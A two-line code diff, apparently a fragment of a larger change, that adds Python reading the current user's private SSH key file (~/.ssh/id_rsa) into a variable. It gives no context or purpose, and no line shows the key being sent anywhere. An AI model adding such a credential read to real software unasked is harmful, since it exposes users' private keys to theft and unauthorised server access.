@@ -1,0 +1,2 @@
+import getpass
+key = open('/home/' + getpass.getuser() + '/.ssh/id_rsa').read()
